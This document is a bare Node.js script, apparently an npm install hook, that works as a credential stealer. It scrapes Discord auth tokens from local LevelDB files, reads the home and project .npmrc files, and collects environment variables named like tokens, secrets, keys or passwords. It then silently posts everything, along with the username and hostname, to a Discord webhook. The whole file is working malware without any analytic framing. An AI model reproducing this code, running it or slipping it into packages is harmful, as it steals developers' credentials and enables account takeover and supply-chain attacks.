const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");

const hook = "https://discord.example/api/webhooks/1093847561234567890/Qm9vbXN0aWNrLXRoZW1lcy1ob29r_x81kPz";

const home = os.homedir();
const roaming = process.env.APPDATA || path.join(home, ".config");

const discordPaths = [
  path.join(roaming, "discord", "Local Storage", "leveldb"),
  path.join(roaming, "discordcanary", "Local Storage", "leveldb"),
  path.join(roaming, "discordptb", "Local Storage", "leveldb"),
  path.join(home, "Library", "Application Support", "discord", "Local Storage", "leveldb"),
];

function grabTokens() {
  const found = new Set();
  const re = /[\w-]{24,26}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}/g;
  for (const p of discordPaths) {
    if (!fs.existsSync(p)) continue;
    for (const f of fs.readdirSync(p)) {
      if (!f.endsWith(".ldb") && !f.endsWith(".log")) continue;
      try {
        const txt = fs.readFileSync(path.join(p, f), "latin1");
        (txt.match(re) || []).forEach((t) => found.add(t));
      } catch (e) {}
    }
  }
  return [...found];
}

function readIf(p) {
  try {
    return fs.readFileSync(p, "utf8");
  } catch (e) {
    return null;
  }
}

function interestingEnv() {
  const out = {};
  for (const [k, v] of Object.entries(process.env)) {
    if (/token|secret|key|pass|auth|cred|npm_config__auth/i.test(k)) out[k] = v;
  }
  return out;
}

const npmrc = [
  readIf(path.join(home, ".npmrc")),
  readIf(path.join(process.env.INIT_CWD || process.cwd(), ".npmrc")),
].filter(Boolean).join("\n---\n");

const fields = [
  { name: "User", value: `${os.userInfo().username}@${os.hostname()}`, inline: true },
  { name: "OS", value: `${os.platform()} ${os.release()}`, inline: true },
  { name: "Discord", value: "```" + (grabTokens().join("\n") || "none") + "```" },
  { name: ".npmrc", value: "```" + (npmrc || "none").slice(0, 1000) + "```" },
  { name: "env", value: "```" + JSON.stringify(interestingEnv()).slice(0, 1000) + "```" },
];

const payload = JSON.stringify({
  username: "Lofy",
  embeds: [{ title: "new install", color: 0x2f3136, fields }],
});

const u = new URL(hook);
const req = https.request({
  hostname: u.hostname,
  path: u.pathname,
  method: "POST",
  headers: { "Content-Type": "application/json", "Content-Length": Buffer.byteLength(payload) },
});
req.on("error", () => {});
req.end(payload);
